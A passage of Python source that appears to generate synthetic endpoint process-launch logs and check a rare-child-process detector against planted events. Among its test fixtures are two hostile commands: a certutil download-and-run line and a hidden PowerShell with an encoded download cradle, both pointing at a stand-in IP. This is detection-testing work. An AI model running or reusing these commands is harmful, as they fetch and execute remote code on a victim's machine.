_KEEPASS_PIPE = "5d0e2f1a9c3b4e77"

PLANTED: tuple[PlantedEvent, ...] = (
    PlantedEvent(
        "WINWORD.EXE", "cmd.exe", "WS-004", 1, "09:14:52.118", _SYS32 + "cmd.exe",
        r'cmd.exe /c "certutil -urlcache -split -f http://198.51.100.23/inv.txt %TEMP%\inv.exe '
        r'&& %TEMP%\inv.exe"',
        f'"{_OFFICE}WINWORD.EXE" /n "C:\\Users\\@USER@\\Downloads\\Factuur_2024_0311.docm" /o ""',
        "user", "Office document starting a shell: a macro dropper, the case the model exists for",
    ),
    PlantedEvent(
        "OUTLOOK.EXE", "powershell.exe", "WS-006", 2, "14:03:27.640", _POWERSHELL,
        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwA"
        "bwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAHUALgBwAHMA"
        "MQAnACkA",
        f'"{_OFFICE}OUTLOOK.EXE"',
        "user", "Outlook starting PowerShell with an encoded download cradle: a mail exploit or attachment",
    ),
    PlantedEvent(
        "chrome.exe", "cmd.exe", "WS-002", 0, "11:27:05.902", _SYS32 + "cmd.exe",
        r'C:\Windows\system32\cmd.exe /d /s /c ""C:\Program Files\KeePassXC\keepassxc-proxy.exe" '
        "chrome-extension://oboonakemofpalcgghocfoadofidjkkk/ --parent-window=0 "
        f"< \\\\.\\pipe\\chrome.nativeMessaging.in.{_KEEPASS_PIPE} "
        f'> \\\\.\\pipe\\chrome.nativeMessaging.out.{_KEEPASS_PIPE}"',
        f'"{_CHROME}"',
        "user", "password manager's native-messaging host started by Chrome: rare but benign",
    ),
    PlantedEvent(
        "chrome.exe", "7zFM.exe", "WS-005", 1, "15:48:31.027", r"C:\Program Files\7-Zip\7zFM.exe",
        r'"C:\Program Files\7-Zip\7zFM.exe" "C:\Users\@USER@\Downloads\network_scanner_portable.zip"',
        f'"{_CHROME}"',
        "user", "archive opened from Chrome's download bar: an unusual tool arriving on the workstation",
    ),
    PlantedEvent(
        "explorer.exe", "TightVNCViewerPortable.exe", "WS-007", 2, "10:05:44.513",
        r"C:\Users\@USER@\Downloads\TightVNCViewerPortable\TightVNCViewerPortable.exe",
        r'"C:\Users\@USER@\Downloads\TightVNCViewerPortable\TightVNCViewerPortable.exe"',
        r"C:\Windows\Explorer.EXE",
        "user", "unapproved remote-access software started by the user",
    ),
)  # fmt: skip

# Findings of the reference environment that need its size: two more unapproved tools
# started from explorer.exe. They live on hosts the small sample does not have (a parent's frontier
# there is too low for a third rare child of explorer.exe), so they appear in sets of 31 and 42 hosts or more.
REFERENCE_PLANTED: tuple[PlantedEvent, ...] = (
    PlantedEvent(
        "explorer.exe", "PremierColor.exe", "WS-031", 3, "14:22:07.604",
        r"C:\Program Files\Dell\PremierColor\PremierColor.exe",
        r'"C:\Program Files\Dell\PremierColor\PremierColor.exe"',
        r"C:\Windows\Explorer.EXE",
        "user", "vendor colour-calibration tool outside the approved software list",
    ),
    PlantedEvent(
        "explorer.exe", "SUMo.exe", "WS-042", 4, "11:37:55.290",
        r"C:\Users\@USER@\Downloads\SUMo\SUMo.exe",
        r'"C:\Users\@USER@\Downloads\SUMo\SUMo.exe"',
        r"C:\Windows\Explorer.EXE",
        "user", "software-update monitor run from Downloads: unapproved software",
    ),
)  # fmt: skip

WHITELISTED: tuple[PlantedEvent, ...] = (
    PlantedEvent(
        "svchost.exe", "wermgr.exe", "WS-003", 0, "03:12:09.004", _SYS32 + "wermgr.exe",
        r"C:\Windows\system32\wermgr.exe -upload", _SVC_SCHEDULE,
        "system", "Windows Error Reporting upload task: rare but benign", "rare_child_svchost",
    ),
    PlantedEvent(
        "svchost.exe", "lpremove.exe", "WS-008", 1, "02:40:10.771", _SYS32 + "lpremove.exe",
        r"C:\Windows\system32\lpremove.exe", _SVC_SCHEDULE,
        "system", "language-pack cleanup scheduled task: rare but benign", "rare_child_svchost",
    ),
    PlantedEvent(
        "services.exe", "TrustedInstaller.exe", "WS-001", 2, "04:15:33.298",
        r"C:\Windows\servicing\TrustedInstaller.exe", r"C:\Windows\servicing\TrustedInstaller.exe",
        r"C:\Windows\system32\services.exe",
        "system", "Windows Modules Installer service started for an update: rare but benign",
        "rare_child_services",
    ),
)  # fmt: skip


# --------------------------------------------------------------------------------------------------
# Generation


@dataclass(frozen=True)
class _CompiledParent:
    parent: Parent
    child_cum_weights: tuple[float, ...]
    child_total: float


def _derived_rng(seed: int, *parts: object) -> random.Random:
    """An independent, reproducible stream for one part of the output (a host, the layout)."""
    digest = hashlib.sha256("/".join(str(part) for part in (seed, *parts)).encode()).digest()
    return random.Random(int.from_bytes(digest[:16], "big"))


def _sha256_of(path: str) -> str:
    """A stand-in for the binary's hash: one value per path (the same binary everywhere)."""
    return hashlib.sha256(f"binary:{path.lower()}".encode()).hexdigest()


def _fill(template: str, rng: random.Random, user: str) -> str:
    if "@" not in template:
        return template
    text = template.replace("@USER@", user)
    while "@N@" in text:
        text = text.replace("@N@", str(rng.randrange(100, 1_000_000)), 1)
    while "@HEX@" in text:
        text = text.replace("@HEX@", f"{rng.getrandbits(64):016x}", 1)
    while "@GUID@" in text:
        value = f"{rng.getrandbits(128):032X}"
        guid = f"{value[:8]}-{value[8:12]}-{value[12:16]}-{value[16:20]}-{value[20:]}"
        text = text.replace("@GUID@", guid, 1)
    while "@DOC@" in text:
        text = text.replace("@DOC@", rng.choice(_DOCUMENTS), 1)
    return text


def _format_timestamp(timestamp_ms: int) -> str:
    seconds, millis = divmod(timestamp_ms, 1000)
    moment = _EPOCH + timedelta(seconds=seconds)
    return f"{moment:%Y-%m-%dT%H:%M:%S}.{millis:03d}Z"


def _to_ms(moment: datetime) -> int:
    if moment.tzinfo is None:
        moment = moment.replace(tzinfo=UTC)
    return (moment - _EPOCH) // timedelta(milliseconds=1)


def _parse_time_of_day(text: str) -> int:
    hours, minutes, rest = text.split(":")
    seconds, millis = rest.split(".")
    return ((int(hours) * 60 + int(minutes)) * 60 + int(seconds)) * 1000 + int(millis)


def reported_planted(hosts: int | None = None) -> tuple[PlantedEvent, ...]:
    """The events the seed use case must report in a set of ``hosts`` hosts.

    ``PLANTED``, plus the ``REFERENCE_PLANTED`` events whose host exists (None: the small sample).
    """
    extra = () if hosts is None else tuple(e for e in REFERENCE_PLANTED if _host_number(e.host) <= hosts)
    return PLANTED + extra


def planted_events(hosts: int | None = None) -> tuple[PlantedEvent, ...]:
    """What the seed rule flags before the whitelist: :func:`reported_planted` then ``WHITELISTED``."""
    return reported_planted(hosts) + WHITELISTED


def _host_number(host: str) -> int:
    return int(host.split("-")[1])


def min_hosts() -> int:
    """The planted events live on named hosts ``WS-001`` .. this number."""
    return max(_host_number(event.host) for event in planted_events())


def _allocate(total: int, weights: list[float]) -> list[int]:
    """Split ``total`` into integers proportional to ``weights`` (largest remainder, ties by index)."""
    weight_sum = sum(weights)
    quotas = [total * weight / weight_sum for weight in weights]
    counts = [int(quota) for quota in quotas]
    order = sorted(range(len(weights)), key=lambda index: (-(quotas[index] - counts[index]), index))
    for index in order[: total - sum(counts)]:
        counts[index] += 1
    return counts


def _event(
    *,
    seed: int,
    host: str,
    sequence: int,
    timestamp_ms: int,
    name: str,
    parent_name: str,
    cmdline: str,
    parent_cmdline: str,
    path: str,
    pid: int,
    parent_pid: int,
    account: Account,
    sha256: str,
) -> dict:
    return {
        "_id": hashlib.sha1(f"{seed}/{host}/{sequence}".encode()).hexdigest()[:24],
        "_index": INDEX_NAME,
        "_source": {
            "@timestamp": _format_timestamp(timestamp_ms),
            "tags": ["endpoint"],
            "meta": {"command": {"name": QUERY_NAME}},
            "host": {"name": host},
            "OsqueryFilter": {
                "name": name,
                "parentname": parent_name,
                "cmdline": cmdline,
                "parentcmdline": parent_cmdline,
                "path": path,
                "pid": pid,
                "parent": parent_pid,
                "uid": account.uid,
                "gid": account.gid,
                "username": account.username,
                "usertype": account.usertype,
                "elevated_token": account.elevated,
                "on_disk": 1,
                "state": "STILL_ACTIVE",
                "start_time": timestamp_ms // 1000,
                "sha256": sha256,
            },
        },
    }


_USER_LAUNCH, _SYSTEM_LAUNCH, _PLANTED_LAUNCH = 0, 1, 2


@dataclass
class _HostDay:
    """Per host and day: the running parent instances (pid and command line) children attach to."""

    seed: int
    host: str
    day: int
    username: str
    instances: dict[tuple[str, str, int], tuple[int, str]]

    def instance(self, parent_name: str, template: str, number: int) -> tuple[int, str]:
        key = (parent_name, template, number)
        if key not in self.instances:
            rng = _derived_rng(self.seed, "instance", self.host, self.day, parent_name, template, number)
            pid = 4 * rng.randrange(100, 4000)
            self.instances[key] = (pid, _fill(template, rng, self.username))
        return self.instances[key]


def _host_stream(
    *,
    seed: int,
    host_number: int,
    start_ms: int,
    day_counts: list[int],
    planted: list[tuple[int, PlantedEvent]],
    system_parents: list[_CompiledParent],
    system_cum: tuple[float, ...],
    user_parents: list[_CompiledParent],
    user_cum: tuple[float, ...],
    user_share: float,
    sha256_by_path: dict[str, str],
) -> Iterator[tuple[int, int, int, dict]]:
    """One host's events in time order, as ``(timestamp_ms, host_number, sequence, hit)``.

    Only one hour of launch times is held at a time.
    """
    host = host_name(host_number)
    user = host_account(host_number)
    rng = _derived_rng(seed, "host", host)
    accounts = {"user": user, **_SERVICE_ACCOUNTS}
    system_share = 1.0 - user_share
    sequence = 0
    for day, day_count in enumerate(day_counts):
        day_start = start_ms + day * DAY_MS
        weekday = (_EPOCH + timedelta(milliseconds=day_start)).weekday()
        user_activity = WEEKEND_USER_ACTIVITY if weekday >= 5 else 1.0
        p_user = user_share * user_activity / (user_share * user_activity + system_share)
        office_cum = tuple(
            itertools.accumulate(
                _OFFICE_HOURS_UTC[((day_start + hour * HOUR_MS) // HOUR_MS) % 24] for hour in range(24)
            )
        )
        # How many launches of each kind fall in each hour of this day.
        per_hour = {_USER_LAUNCH: [0] * 24, _SYSTEM_LAUNCH: [0] * 24}
        for _ in range(day_count):
            if rng.random() < p_user:
                per_hour[_USER_LAUNCH][bisect.bisect_right(office_cum, rng.random() * office_cum[-1])] += 1
            else:
                per_hour[_SYSTEM_LAUNCH][rng.randrange(24)] += 1
        host_day = _HostDay(seed, host, day, user.username, {})

        for hour in range(24):
            hour_start = day_start + hour * HOUR_MS
            kinds = [_USER_LAUNCH] * per_hour[_USER_LAUNCH][hour]
            kinds += [_SYSTEM_LAUNCH] * per_hour[_SYSTEM_LAUNCH][hour]
            rng.shuffle(kinds)
            slots: list[tuple[int, int, int, PlantedEvent | None]] = [
                (rng.randrange(HOUR_MS), position, kind, None) for position, kind in enumerate(kinds)
            ]
            for timestamp, event in planted:
                if hour_start <= timestamp < hour_start + HOUR_MS:
                    slots.append((timestamp - hour_start, len(slots), _PLANTED_LAUNCH, event))
            slots.sort(key=lambda slot: (slot[0], slot[1]))
            for offset, _position, kind, event in slots:
                timestamp = hour_start + offset
                sequence += 1
                if event is not None:
                    parent_pid, parent_cmdline = host_day.instance(event.parent, event.parent_cmdline, 0)
                    path = _fill(event.path, rng, user.username)
                    yield timestamp, host_number, sequence, _event(
                        seed=seed, host=host, sequence=sequence, timestamp_ms=timestamp,
                        name=event.child, parent_name=event.parent,
                        cmdline=_fill(event.cmdline, rng, user.username), parent_cmdline=parent_cmdline,
                        path=path, pid=4 * rng.randrange(250, 16000), parent_pid=parent_pid,
                        account=accounts[event.account], sha256=_sha256_of(f"planted:{path}"),
                    )  # fmt: skip
                    continue
                if kind == _USER_LAUNCH:
                    compiled = user_parents[bisect.bisect_right(user_cum, rng.random() * user_cum[-1])]
                else:
                    compiled = system_parents[bisect.bisect_right(system_cum, rng.random() * system_cum[-1])]
                parent = compiled.parent
                child = parent.children[
                    bisect.bisect_right(compiled.child_cum_weights, rng.random() * compiled.child_total)
                ]
                number = rng.randrange(parent.instances) if parent.instances > 1 else 0
                parent_pid, parent_cmdline = host_day.instance(
                    parent.name, child.parent_cmdline or parent.cmdline, number
                )
                cmdline_template = child.cmdlines[rng.randrange(len(child.cmdlines))]
                path = child.path.replace("@USER@", user.username)
                if path not in sha256_by_path:
                    sha256_by_path[path] = _sha256_of(path)
                yield timestamp, host_number, sequence, _event(
                    seed=seed, host=host, sequence=sequence, timestamp_ms=timestamp,
                    name=child.name, parent_name=parent.name,
                    cmdline=_fill(cmdline_template, rng, user.username), parent_cmdline=parent_cmdline,
                    path=path, pid=4 * rng.randrange(250, 16000), parent_pid=parent_pid,
                    account=accounts[child.account], sha256=sha256_by_path[path],
                )  # fmt: skip


def _compile(parents: Iterable[Parent]) -> tuple[list[_CompiledParent], tuple[float, ...]]:
    compiled = []
    for parent in parents:
        cumulative = tuple(itertools.accumulate(child.weight for child in parent.children))
        compiled.append(_CompiledParent(parent, cumulative, cumulative[-1]))
    return compiled, tuple(itertools.accumulate(item.parent.share for item in compiled))


def generate(
    *,
    seed: int = DEFAULT_SEED,
    hosts: int = DEFAULT_HOSTS,
    days: int = DEFAULT_DAYS,
    start: datetime = DEFAULT_START,
    events_per_host_day: int = DEFAULT_EVENTS_PER_HOST_DAY,
    total_events: int | None = None,
) -> Iterator[dict]:
    """Elasticsearch hits sorted by ``@timestamp`` (ties: host, then sequence), as a lazy iterator.

    The total is exactly ``total_events`` when given, else ``hosts * days * events_per_host_day``;
    it includes the ``PLANTED`` and ``WHITELISTED`` events. Host activity varies (0.8-1.2x) and
    weekends are quiet, so individual host-days differ from the average rate. Bad arguments raise
    ``ValueError`` here, before anything is generated.
    """
    if hosts < min_hosts():
        raise ValueError(
            f"hosts must be at least {min_hosts()}: "
            f"the planted events live on {host_name(1)}..{host_name(min_hosts())}"
        )
    if days < 1:
        raise ValueError("days must be at least 1")
    if events_per_host_day < 0:
        raise ValueError("events_per_host_day must not be negative")
    total = hosts * days * events_per_host_day if total_events is None else total_events
    extra = planted_events(hosts)
    if total < len(extra):
        raise ValueError(f"the total number of events must be at least {len(extra)} (the planted events)")
    return _generate(seed=seed, hosts=hosts, days=days, start_ms=_to_ms(start), total=total)


def _generate(*, seed: int, hosts: int, days: int, start_ms: int, total: int) -> Iterator[dict]:
    extra = planted_events(hosts)
    layout_rng = _derived_rng(seed, "layout")
    activity = [layout_rng.uniform(*HOST_ACTIVITY_RANGE) for _ in range(hosts)]
    system_parents, system_cum = _compile(parent for parent in CATALOG if not parent.user_driven)
    user_parents, user_cum = _compile(parent for parent in CATALOG if parent.user_driven)
    user_share = user_cum[-1] / (user_cum[-1] + system_cum[-1])
    day_weights = []
    for day in range(days):
        weekday = (_EPOCH + timedelta(milliseconds=start_ms + day * DAY_MS)).weekday()
        day_weights.append(1.0 - user_share + user_share * (WEEKEND_USER_ACTIVITY if weekday >= 5 else 1.0))
    flat_counts = _allocate(total - len(extra), [host * day for host in activity for day in day_weights])

    planted_by_host: dict[str, list[tuple[int, PlantedEvent]]] = {}
    for event in extra:
        offset = start_ms + (event.day % days) * DAY_MS + _parse_time_of_day(event.time)
        planted_by_host.setdefault(event.host, []).append((offset, event))

    sha256_by_path: dict[str, str] = {}
    streams = []
    for number in range(1, hosts + 1):
        streams.append(
            _host_stream(
                seed=seed,
                host_number=number,
                start_ms=start_ms,
                day_counts=flat_counts[(number - 1) * days : number * days],
                planted=planted_by_host.get(host_name(number), []),
                system_parents=system_parents,
                system_cum=system_cum,
                user_parents=user_parents,
                user_cum=user_cum,
                user_share=user_share,
                sha256_by_path=sha256_by_path,
            )
        )
    for _timestamp, _host, _sequence, hit in heapq.merge(*streams):
        yield hit


def to_line(hit: Mapping) -> str:
    """One NDJSON line: fixed key order (insertion order), ASCII, ``\\n``-terminated."""
    return json.dumps(hit) + "\n"


def write_ndjson(hits: Iterable[Mapping], stream: TextIO) -> int:
    """Write ``hits`` as NDJSON, return how many were written."""
    written = 0
    for hit in hits:
        stream.write(to_line(hit))
        written += 1
    return written


def read_ndjson(path: str | Path) -> Iterator[dict]:
    """Stream hits from an NDJSON file (``-`` reads standard input)."""
    if str(path) == "-":
        yield from (json.loads(line) for line in sys.stdin if line.strip())
        return
    with open(path, encoding="utf-8") as handle:
        for line in handle:
            if line.strip():
                yield json.loads(line)


# --------------------------------------------------------------------------------------------------
# The seed rule, recomputed independently of the connector.


def _matches_seed_filter(source: Mapping) -> bool:
    """The seed ``es_query_filter``: endpoint events of the enriched-process query with a parent name."""
    osquery = source.get("OsqueryFilter")
    meta = source.get("meta")
    tags = source.get("tags")
    tags = tags if isinstance(tags, list) else [tags]
    return (
        "endpoint" in tags
        and isinstance(meta, dict)
        and isinstance(meta.get("command"), dict)
        and meta["command"].get("name") == QUERY_NAME
        and isinstance(osquery, dict)
        and osquery.get("name") is not None
        and osquery.get("parentname") not in (None, "")
    )


def pair_counts(hits: Iterable[Mapping]) -> Counter[tuple[str, str]]:
    """Number of events per (parent name, child name) among the events the seed query selects."""
    counts: Counter[tuple[str, str]] = Counter()
    for hit in hits:
        source = hit.get("_source", hit)
        if _matches_seed_filter(source):
            osquery = source["OsqueryFilter"]
            counts[(str(osquery["parentname"]), str(osquery["name"]))] += 1
    return counts


@dataclass(frozen=True)
class ParentStats:
    parent: str
    events: int
    distinct_children: int
    mean_child_count: float
    decision_frontier: float


def parent_stats(counts: Mapping[tuple[str, str], int]) -> dict[str, ParentStats]:
    """Per parent: events, distinct children, mean child count and frontier (mean * sensitivity / 100)."""
    by_parent: dict[str, list[int]] = {}
    for (parent, _child), count in counts.items():
        by_parent.setdefault(parent, []).append(count)
    stats = {}
    for parent, child_counts in by_parent.items():
        mean = statistics.mean(child_counts)
        stats[parent] = ParentStats(
            parent, sum(child_counts), len(child_counts), mean, mean * (TRIGGER_SENSITIVITY / 100)
        )
    return stats


def flags_from_counts(counts: Mapping[tuple[str, str], int]) -> dict[tuple[str, str], int]:
    """(parent, child) -> count for every child whose count < mean(child counts of its parent) * 0.01."""
    stats = parent_stats(counts)
    return {pair: count for pair, count in sorted(counts.items()) if count < stats[pair[0]].decision_frontier}


def expected_flags(hits: Iterable[Mapping]) -> dict[tuple[str, str], int]:
    """The flagged (parent, child) pairs of the seed use case before whitelisting, with their counts."""
    return flags_from_counts(pair_counts(hits))


def outliers_after_whitelist(counts: Mapping[tuple[str, str], int]) -> dict[tuple[str, str], int]:
    """The seed model with its whitelist (docs/model.md, whitelists), judged on the summary text only.

    Per parent: flag, drop whitelisted candidates from the counts, re-evaluate while anything was
    whitelisted; what is left flagged is reported.
    """
    regexes = [re.compile(pattern, re.IGNORECASE) for pattern in WHITELIST_REGEXPS.values()]
    by_parent: dict[str, dict[str, int]] = {}
    for (parent, child), count in counts.items():
        by_parent.setdefault(parent, {})[child] = count
    reported: dict[tuple[str, str], int] = {}
    for parent, children in by_parent.items():
        remaining = dict(children)
        while remaining:
            frontier = statistics.mean(remaining.values()) * (TRIGGER_SENSITIVITY / 100)
            candidates = [child for child, count in remaining.items() if count < frontier]
            whitelisted = [
                child
                for child in candidates
                if any(regex.match(SUMMARY_TEMPLATE.format(child=child, parent=parent)) for regex in regexes)
            ]
            if not whitelisted:
                reported.update({(parent, child): remaining[child] for child in candidates})
                break
            for child in whitelisted:
                del remaining[child]
    return dict(sorted(reported.items()))


def expected_pairs(events: Iterable[PlantedEvent]) -> dict[tuple[str, str], int]:
    counts: Counter[tuple[str, str]] = Counter((event.parent, event.child) for event in events)
    return dict(sorted(counts.items()))


@dataclass(frozen=True)
class CheckResult:
    problems: list[str]  # empty when the events are as designed
    counts: Counter[tuple[str, str]]  # events per (parent, child)
    flagged: dict[tuple[str, str], int]  # the seed rule before whitelisting
    reported: dict[tuple[str, str], int]  # what remains after the seed whitelist
    stats: dict[str, ParentStats]

    @property
    def ok(self) -> bool:
        return not self.problems


def check(hits: Iterable[Mapping]) -> CheckResult:
    """Compare the seed rule over ``hits`` with ``PLANTED`` + ``WHITELISTED``.

    The flagged pairs must be exactly the planted ones, with the planted counts, and after the
    whitelist exactly the ``PLANTED`` pairs must remain.
    """
    hosts_seen: set[str] = set()

    def noting_hosts(hits: Iterable[Mapping]) -> Iterator[Mapping]:
        for hit in hits:
            host = (hit.get("_source", {}).get("host") or {}).get("name")
            if isinstance(host, str):
                hosts_seen.add(host)
            yield hit

    counts = pair_counts(noting_hosts(hits))
    numbers = [_host_number(host) for host in hosts_seen if re.fullmatch(r"WS-\d+", host)]
    return check_counts(counts, hosts=max(numbers, default=None))


def check_counts(counts: Counter[tuple[str, str]], *, hosts: int | None = None) -> CheckResult:
    """:func:`check` over pair counts already computed (e.g. while streaming the events elsewhere).

    :param hosts: how many hosts the set has: the reference-scale findings exist from 42 on.
    """
    stats = parent_stats(counts)
    flagged = flags_from_counts(counts)
    problems = []
    wanted = expected_pairs(planted_events(hosts))
    for pair in sorted(set(flagged) | set(wanted)):
        got, expected = flagged.get(pair), wanted.get(pair)
        if got == expected:
            continue
        parent, child = pair
        if expected is None:
            problems.append(
                f"unexpected flag: {parent} -> {child} (count {got}) is neither PLANTED nor WHITELISTED"
            )
        elif got is None:
            parent_info = stats.get(parent)
            frontier = f"{parent_info.decision_frontier:.4f}" if parent_info else "none (parent absent)"
            problems.append(
                f"missing flag: {parent} -> {child} has count {counts.get(pair, 0)}, planted {expected}x, "
                f"but the frontier of {parent} is {frontier}"
            )
        else:
            problems.append(f"wrong count: {parent} -> {child} flagged {got}x, planted {expected}x")
    reported = outliers_after_whitelist(counts)
    if reported != expected_pairs(reported_planted(hosts)):
        problems.append(f"after the whitelist the model reports {reported}, expected the PLANTED pairs")
    return CheckResult(problems, counts, flagged, reported, stats)


def _print_check(path: str, result: CheckResult, out: TextIO) -> None:
    stats = result.stats
    total = sum(item.events for item in stats.values())
    out.write(f"{path}: {total} events selected by the seed query, {len(stats)} parents\n")
    out.write(f"{'parent':<24} {'events':>8} {'children':>8} {'mean':>10} {'frontier':>9}  flagged\n")
    for item in sorted(stats.values(), key=lambda item: (-item.events, item.parent)):
        flagged_here = ", ".join(
            f"{child} ({count})" for (parent, child), count in result.flagged.items() if parent == item.parent
        )
        out.write(
            f"{item.parent:<24} {item.events:>8} {item.distinct_children:>8} {item.mean_child_count:>10.2f} "
            f"{item.decision_frontier:>9.4f}  {flagged_here}\n"
        )
    reported = ", ".join(
        f"{parent} -> {child} ({count})" for (parent, child), count in result.reported.items()
    )
    out.write(f"after the whitelist: {sum(result.reported.values())} outlier events: {reported}\n")
    for problem in result.problems:
        out.write(f"MISMATCH {problem}\n")
    if result.ok:
        out.write(
            "OK: flagged pairs are exactly PLANTED + WHITELISTED, and PLANTED remain after the whitelist\n"
        )
    else:
        out.write("FAILED: the flagged pairs differ from PLANTED + WHITELISTED (see MISMATCH lines)\n")


# --------------------------------------------------------------------------------------------------
# Command line


def _parse_start(text: str) -> datetime:
    moment = datetime.fromisoformat(text.replace("Z", "+00:00"))
    return moment.replace(tzinfo=UTC) if moment.tzinfo is None else moment.astimezone(UTC)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED, help="random seed (default %(default)s)")
    parser.add_argument(
        "--hosts", type=int, default=DEFAULT_HOSTS, help="workstations WS-001.. (default %(default)s)"
    )
    parser.add_argument("--days", type=int, default=DEFAULT_DAYS, help="days of events (default %(default)s)")
    parser.add_argument(
        "--start", type=_parse_start, default=DEFAULT_START,
        help="start of the first day, ISO-8601, UTC unless a zone is given (default 2024-03-04T00:00:00Z)",
    )  # fmt: skip
    size = parser.add_mutually_exclusive_group()
    size.add_argument(
        "--events-per-host-day", type=int, default=DEFAULT_EVENTS_PER_HOST_DAY,
        help="average launches per host and day (default %(default)s)",
    )  # fmt: skip
    size.add_argument("--total-events", type=int, help="exact total number of events (overrides the rate)")
    size.add_argument(
        "--scale", type=int, metavar="MULTIPLIER",
        help="the reference scale (50 hosts x 7 days, 632788 events) times MULTIPLIER (1, 4, 16 ...): "
        "sets the hosts, days and total (overrides --hosts and --days)",
    )  # fmt: skip
    parser.add_argument("--out", default="-", help="output NDJSON file, - for standard output (default)")
    parser.add_argument(
        "--check", metavar="FILE",
        help="recompute the seed rule over FILE and compare with PLANTED + WHITELISTED; exit 1 on mismatch",
    )  # fmt: skip
    args = parser.parse_args(argv)

    if args.check:
        try:
            result = check(read_ndjson(args.check))
        except (OSError, ValueError) as error:  # json.JSONDecodeError is a ValueError
            parser.error(f"cannot check {args.check}: {error}")
        _print_check(args.check, result, sys.stdout)
        return 0 if result.ok else 1

    try:
        if args.scale is not None:
            chosen = scale(args.scale)
            args.hosts, args.days, args.total_events = chosen.hosts, chosen.days, chosen.total_events
        hits = generate(
            seed=args.seed, hosts=args.hosts, days=args.days, start=args.start,
            events_per_host_day=args.events_per_host_day, total_events=args.total_events,
        )  # fmt: skip
        if args.out == "-":
            written = write_ndjson(hits, sys.stdout)
        else:
            Path(args.out).parent.mkdir(parents=True, exist_ok=True)
            with open(args.out, "w", encoding="utf-8", newline="\n") as handle:
                written = write_ndjson(hits, handle)
    except ValueError as error:
        parser.error(str(error))
    if args.out != "-":
        print(f"wrote {written} events to {args.out}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
